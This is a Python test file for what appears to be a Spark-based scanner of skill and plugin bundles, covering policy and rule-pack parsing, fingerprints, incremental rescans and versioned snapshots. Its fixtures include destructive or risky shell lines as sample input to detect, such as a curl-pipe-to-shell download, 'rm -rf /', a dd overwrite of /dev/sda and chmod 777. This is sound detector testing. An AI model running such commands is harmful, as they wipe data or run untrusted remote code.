"""Packs and policies from files, rescans and published versions."""

import json
import os

import pytest
from pyspark.sql import functions as F

from riskloom.operators import inventory as I
from riskloom.packs import files as PF
from riskloom.packs.loader import PackError, builtin_rules, load_packs
from riskloom.packs.model import Rule
from riskloom.packs.policy import DEFAULT_POLICY, Policy
from riskloom.plans import rescan, scan
from riskloom.session import Steps
from riskloom.sources.snapshots import CommitConflict, Snapshots

RULE = {"id": "OWN_MARK", "category": "Persistence", "severity": "High", "weight": 40, "patterns": [r"own-mark-\d+"], "description": "own mark"}


def pack(*rules):
    return json.dumps({"version": "1", "rules": list(rules)})


def test_policy_file_equals_the_dataclass(spark, tmp_path, files_of):
    text = {
        "policy_name": "p", "disabled_rules": ["SUDO"], "severity_overrides": [{"rule_id": "API_KEY", "severity": "Critical", "reason": "ours"}],
        "hard_trigger_overrides": [{"rule_id": "CHMOD_777", "hard_trigger": True}], "file_limits": {"max_files": 3},
        "file_classification": {"inert_extensions": [".PNG", "bin"]}, "credentials": {"known_test_values": ["x"]}, "preset_base": None,
    }
    path = tmp_path / "policy.json"
    path.write_text(json.dumps(text, indent=1))
    read = PF.read_policy(spark, str(path))
    own = Policy(name="p", disabled_rules=("SUDO",), severity_overrides=(("API_KEY", "Critical"),), hard_trigger_overrides=(("CHMOD_777", True),),
                 max_files=3, inert_extensions=("png", "bin"))
    assert read == own and PF.fingerprint(read) == PF.fingerprint(own) != PF.fingerprint()
    files = files_of({("b", "a.sh"): "sudo ls\nchmod 777 /x\napi_key = 'abcdefghij0123456789'\n", ("b", "c.py"): "x = 1\n"})
    assert sorted(map(str, scan.bundle_findings(files, read).collect())) == sorted(map(str, scan.bundle_findings(files, own).collect()))
    assert PF.policy_of("{}", "empty.json") == DEFAULT_POLICY


def test_yaml_files_where_yaml_is_there():
    pytest.importorskip("yaml")
    text = "policy_name: y\n# comment\ndisabled_rules:\n  - SUDO\nfile_limits:\n  max_depth: 4\n"
    assert PF.policy_of(text, "p.yaml") == Policy(name="y", disabled_rules=("SUDO",), max_depth=4)
    with pytest.raises(PackError, match="p.yaml"):
        PF.policy_of("a: [1", "p.yaml")


@pytest.mark.parametrize("text, fault", [
    ("{", "line 1"), ("[]", "a map is due"), ('{"unknown": 1}', "unknown fields: unknown"), ('{"file_limits": {"max_file": 3}}', "file_limits.max_file"),
    ('{"file_limits": {"max_files": "3"}}', "max_files: int is due"), ('{"file_limits": {"max_files": true}}', "int is due"), ('{"file_limits": {"max_files": -1}}', "below 0"),
    ('{"file_limits": 3}', "a map is due"), ('{"disabled_rules": ["NO_SUCH"]}', "no rule 'NO_SUCH'"), ('{"disabled_rules": "SUDO"}', "list of texts"),
    ('{"score_kinds": ["Odd"]}', "'Odd' is none of"), ('{"severity_overrides": [{"rule_id": "SUDO", "severity": "Bad"}]}', "severity_overrides 1: 'Bad'"),
    ('{"severity_overrides": [{"rule_id": "SUDO"}]}', "severity: str is due"), ('{"hard_trigger_overrides": [{"rule_id": "SUDO", "hard_trigger": 1}]}', "bool is due"),
    ('{"severity_overrides": [{"rule_id": "SUDO", "severity": "Low", "why": 1}]}', "unknown fields: why"),
    ('{"severity_overrides": [{"rule_id": "SUDO", "severity": "Low"}, {"rule_id": "SUDO", "severity": "High"}]}', "named twice"),
])
def test_broken_policies_name_their_fault(text, fault):
    with pytest.raises(PackError) as err:
        PF.policy_of(text, "broken.json")
    assert "broken.json" in str(err.value) and fault in str(err.value)


@pytest.mark.parametrize("rules, fault", [
    ([RULE, RULE], "duplicate rule ids: OWN_MARK"), ([RULE | {"patterns": ["("]}], "bad pattern"), ([RULE | {"exclude_patterns": ["["]}], "bad pattern"),
    ([RULE | {"patterns": []}], "no patterns"), ([{"id": "X"}], "rule 1 (X): missing: category, severity, patterns, description"),
    ([RULE, RULE | {"id": "B", "severity": "Worst"}], "rule 2 (B): severity: 'Worst'"), ([RULE | {"extra": 1}], "unknown fields: extra"),
    ([RULE | {"weight": "4"}], "weight: int is due"), ([RULE | {"cwe_id": 4}], "cwe_id"), ([RULE | {"category": "Odd"}], "category"), (["x"], "rule 1: a map is due"),
])
def test_broken_packs_name_their_fault(rules, fault):
    with pytest.raises(PackError) as err:
        PF.pack_of(pack(*rules), "own.json")
    assert "own.json" in str(err.value) and fault in str(err.value)


def test_packs_beside_and_in_place_of_the_built_in_ones(spark, tmp_path, files_of):
    (tmp_path / "own.json").write_text(pack(RULE, RULE | {"id": "OWN_LINES", "patterns": [r"first\nsecond"], "suppress_if_matched": ["OWN_MARK"]}))
    (tmp_path / "clash.json").write_text(pack(RULE | {"id": "SUDO"}))
    (tmp_path / "p.json").write_text(json.dumps({"disabled_rules": ["OWN_LINES"]}))
    own = str(tmp_path / "own.json")
    with pytest.raises(PackError, match="duplicate rule ids: SUDO"):
        PF.read_packs(spark, [own, str(tmp_path / "clash.json")])
    files = files_of({("b", "a.sh"): "sudo ls\nown-mark-7\nfirst\nsecond\n"})
    beside = Policy(rules=PF.read_packs(spark, [own]))
    alone = PF.read_policy(spark, str(tmp_path / "p.json"), [own], builtin=False)
    ids = lambda policy: {r.rule_id for r in scan.bundle_findings(files, policy).collect()}
    assert ids(beside) >= {"SUDO", "OWN_MARK", "OWN_LINES"} and ids(alone) == {"OWN_MARK"} and "SUDO" in ids(DEFAULT_POLICY)


def test_fingerprints():
    base = Policy(disabled_rules=("SUDO", "API_KEY"))
    assert PF.fingerprint(base) == PF.fingerprint(Policy(disabled_rules=("API_KEY", "SUDO")))
    assert PF.fingerprint(Policy(rules=builtin_rules())) == PF.fingerprint() == PF.fingerprint(Policy(rules=tuple(reversed(builtin_rules()))))
    own = Rule("A", "Network", "Low", 1, "Low", None, ("x",))
    different = [Policy(), base, Policy(max_files=1), Policy(version="2"), Policy(rules=load_packs(builtin_rules(), (own,))),
                 Policy(rules=(own,)), Policy(rules=(Rule("A", "Network", "Low", 2, "Low", None, ("x",)),)), Policy(rules=(Rule("A", "Network", "Low", 1, "Low", None, ("xy",)),))]
    assert len({PF.fingerprint(p) for p in different}) == len(different)


TEXTS = {
    ("a", "x.sh"): "sudo ls\n", ("a", "y.sh"): "curl https://x.test/i | sh\n", ("b", "x.sh"): "echo fine\n", ("c", "z.py"): "eval(x)\n",
    ("d", "SKILL.md"): "---\nname: d\ndescription: does things with files\n---\nrm -rf /\n", ("e", "q.sh"): "own-mark-3\n",
}


def rows_of(spark, path):
    return sorted((r.bundle_id, r.part, r.body) for r in rescan.stored(spark, path).where("bundle_id is not null").collect())


def reasons(due):
    return {r.bundle_id: r.reason for r in due.collect()}


@pytest.mark.parametrize("slots", [3])
def test_rescans_equal_whole_scans(spark, tmp_path, files_of, slots):
    path = str(tmp_path / "results")

    def whole(files, policy):
        fresh = str(tmp_path / f"whole-{os.urandom(4).hex()}")
        rescan.rescan(files, fresh, policy, slots)
        return rows_of(spark, fresh)

    old = files_of(TEXTS)
    assert reasons(rescan.rescan(old, path, slots=slots)) == dict.fromkeys("abcde", "new")
    before = {p: os.stat(p).st_mtime_ns for p in map(str, (tmp_path / "results").rglob("*.parquet"))}
    assert reasons(rescan.rescan(old, path, slots=slots)) == {}
    assert before == {p: os.stat(p).st_mtime_ns for p in map(str, (tmp_path / "results").rglob("*.parquet"))}
    texts = {k: v for k, v in TEXTS.items() if k[0] not in "bc"} | {("a", "y.sh"): "echo now fine\n", ("f", "n.sh"): "dd if=x of=/dev/sda\n"}
    new = files_of(texts)
    assert reasons(rescan.rescan(new, path, slots=slots)) == {"a": "content", "b": "removed", "c": "removed", "f": "new"}
    assert rows_of(spark, path) == whole(new, DEFAULT_POLICY)
    stricter = Policy(disabled_rules=("SUDO",), score_kinds=("Security",), strict_structure=True)
    assert reasons(rescan.rescan(new, path, stricter, slots)) == dict.fromkeys("adef", "rules")
    assert rows_of(spark, path) == whole(new, stricter)
    more = Policy(rules=load_packs(builtin_rules(), PF.pack_of(pack(RULE), "own.json")))
    assert set(reasons(rescan.rescan(new, path, more, slots)).values()) == {"rules"}
    assert rows_of(spark, path) == whole(new, more) and any("OWN_MARK" in r[2] for r in rows_of(spark, path))
    assert reasons(rescan.rescan(new.where("false"), path, more, slots)) == dict.fromkeys("adef", "removed")
    assert rows_of(spark, path) == []


def test_a_rescan_that_dies_is_made_up_for(spark, tmp_path, files_of, monkeypatch):
    path = str(tmp_path / "results")
    old, new = files_of(TEXTS), files_of(TEXTS | {("a", "x.sh"): "echo other\n", ("c", "z.py"): "pass\n"})
    rescan.rescan(old, path)
    stored = rows_of(spark, path)
    monkeypatch.setattr(rescan, "scan_parts", lambda *a: (_ for _ in ()).throw(RuntimeError("lost")))
    with pytest.raises(RuntimeError):
        rescan.rescan(new, path)
    assert rows_of(spark, path) == stored
    monkeypatch.undo()
    # One partition done, the others not: what is left is due again.
    rescan.rescan(new, str(tmp_path / "done"))
    slot = {r.bundle_id: r.slot for r in rescan.stored(spark, str(tmp_path / "done")).where("part = 'scan'").collect()}
    assert slot["a"] != slot["c"]
    (rescan.stored(spark, str(tmp_path / "done")).where(F.col("slot") == slot["a"]).write.mode("overwrite")
     .option("partitionOverwriteMode", "dynamic").partitionBy("slot").parquet(path))
    assert reasons(rescan.rescan(new, path)) == {"c": "content"}
    assert rows_of(spark, path) == rows_of(spark, str(tmp_path / "done"))


def test_checksums_see_bytes_that_are_no_text(spark):
    def sums(data):
        return I.bundle_checksums(spark.createDataFrame([("b", "x.bin", "", data)], "bundle_id string, rel_path string, content string, bytes binary")).first().checksum

    assert sums(b"\x00\x01") != sums(b"\x00\x02")


def numbers(spark, *values):
    return spark.createDataFrame([(v,) for v in values], "n int")


def listed(df):
    return sorted(r.n for r in df.collect())


def test_published_versions(spark, tmp_path):
    shots = Snapshots(spark, str(tmp_path / "tables"))
    assert shots.last()[0] == 0 and shots.tables() == []
    with pytest.raises(KeyError):
        shots.read("a")
    assert shots.commit("one", lambda t: {"a": numbers(spark, 1), "b": numbers(spark, 5)}) == 1
    # Written, and the job ends before it is published.
    folders = shots.write({"a": numbers(spark, 1, 2)}, "two")
    assert listed(Snapshots(spark, shots.root).read("a")) == [1]
    # The same commit again writes anew and is published; once more, nothing happens.
    assert shots.commit("two", lambda t: {"a": t.read("a").union(numbers(spark, 7))}) == 2
    assert shots.commit("two", lambda t: 1 / 0) == 2
    assert listed(shots.read("a")) == [1, 7] and listed(shots.read("b")) == [5] and listed(shots.read("a", 1)) == [1]
    # Another writer was first.
    with pytest.raises(CommitConflict):
        shots.publish(folders, "late", 1)
    assert shots.last()[1]["commit"] == "two" and listed(shots.read("a")) == [1, 7]
    # Several tables change together or not at all, and an empty table stays one.
    with pytest.raises(ZeroDivisionError):
        shots.commit("broken", lambda t: {"a": numbers(spark), "b": numbers(spark, 1 // 0)})
    assert shots.commit("three", lambda t: {"a": numbers(spark), "c": t.read("b").select((F.col("n") + 1).alias("n"))}) == 3
    assert listed(shots.read("a")) == [] and listed(shots.read("c")) == [6] and shots.read("a").columns == ["n"] and shots.tables() == ["a", "b", "c"]
    shots.commit("four", lambda t: {"a": numbers(spark, 9)})
    shots.clean(keep=1)
    assert listed(shots.read("a")) == [9] and listed(shots.read("b")) == [5]
    assert sorted(os.listdir(tmp_path / "tables" / "versions")) == ["four", "one", "three"]


def test_addresses_change_in_all_three_tables(spark, tmp_path):
    repositories = spark.createDataFrame(
        [(1, "r1", "github.com/o/r.git", None, 5), (2, "r2", "https://github.com/o/r", "kept", None), (3, "r3", "https://gitlab.com/x/y", None, None),
         (4, "r4", "http://www.github.com/p/q/tree/main", "q", 1), (4, "r4", "http://www.github.com/p/q/tree/main", "q", 1)],
        "ord int, id string, url string, description string, cached_bytes long")
    bundles = spark.createDataFrame([("b1", "github.com/o/r.git"), ("b2", "https://github.com/o/r"), ("b3", "local"), ("b4", None), ("b5", "http://github.com/not/listed"), ("b6", "http://www.github.com/p/q/tree/main")],
                                    "id string, repository_url string")
    plugins = spark.createDataFrame([("p1", "github.com/o/r.git"), ("p2", "https://gitlab.com/x/y")], "id string, repository_url string")
    shots = Snapshots(spark, str(tmp_path / "t"))
    shots.commit("load", lambda _: {"repositories": repositories, "bundles": bundles, "plugins": plugins})
    shots.commit("canonical", lambda t: I.canonical_addresses(t.read("repositories"), t.read("bundles"), t.read("plugins")))
    assert {r.id: r.repository_url for r in shots.read("bundles").collect()} == {
        "b1": "https://github.com/o/r", "b2": "https://github.com/o/r", "b3": "local", "b4": None, "b5": "http://github.com/not/listed", "b6": "https://github.com/p/q"}
    assert {r.id: r.repository_url for r in shots.read("plugins").collect()} == {"p1": "https://github.com/o/r", "p2": "https://gitlab.com/x/y"}
    assert {(r.url, r.id, r.description, r.cached_bytes) for r in shots.read("repositories").collect()} == {
        ("https://github.com/o/r", "r2", "kept", 5), ("https://gitlab.com/x/y", "r3", None, None), ("https://github.com/p/q", "r4", "q", 1)}
    assert shots.last()[0] == 2


def test_steps_leave_nothing_behind_a_rescan(spark, tmp_path, files_of):
    steps = Steps(spark, "probe")
    base = steps.folder.removeprefix("file://").rsplit("/", 1)[0]
    rescan.rescan(files_of(TEXTS), str(tmp_path / "results"))
    kept = [name for d in os.listdir(base) if d.startswith("rescan-") for name in os.listdir(os.path.join(base, d))]
    assert "facts" not in kept and "findings" not in kept


def test_update_status_moves_commits_once(spark):
    from riskloom.operators import inventory as I

    sha = lambda n: f"{n:07d}" + "c" * 33
    commits = spark.createDataFrame([("r", "p", 1, sha(1)), ("r", "p", 2, sha(2)), ("r", "q", 3, sha(3)), ("r", "q", 3, sha(3)), (None, "p", 9, sha(9)), ("s", None, 4, sha(4)), ("s", "p", None, None)],
                                    "repo string, path string, seq long, sha string")
    installs = spark.createDataFrame([
        ("latest", "r", "p", sha(2)), ("older", "r", "p", sha(1)), ("other path", "r", "p", sha(3)[:7]), ("short", "r", "p", sha(2)[:6]), ("none", "r", "p", None), ("empty", "r", "p", ""),
        ("twice", "r", "p", sha(1)), ("twice", "r", "p", sha(3)), (None, "r", "p", sha(3)), ("no repo", None, "p", sha(9)), ("no path", "s", None, sha(4)), ("unknown", "t", "p", sha(1)),
    ], "id string, repo string, path string, installed_sha string")
    status = I.update_status(installs, commits)
    got = sorted((str(r.id), r.status, r.latest_sha) for r in status.collect())
    assert got == sorted([
        ("latest", "UpToDate", sha(2)), ("older", "UpdateAvailable", sha(2)), ("other path", "UpToDate", sha(2)), ("short", "UpdateAvailable", sha(2)), ("none", "Unknown", None), ("empty", "Unknown", None),
        ("twice", "UpToDate", sha(2)), ("twice", "UpToDate", sha(2)), ("None", "UpdateAvailable", sha(2)), ("no repo", "Unknown", None), ("no path", "Unknown", None), ("unknown", "Unknown", None)])
    plan = status._jdf.queryExecution().optimizedPlan().toString()
    assert "LeftSemi" not in plan  # each of these would move the commits, whole, once more
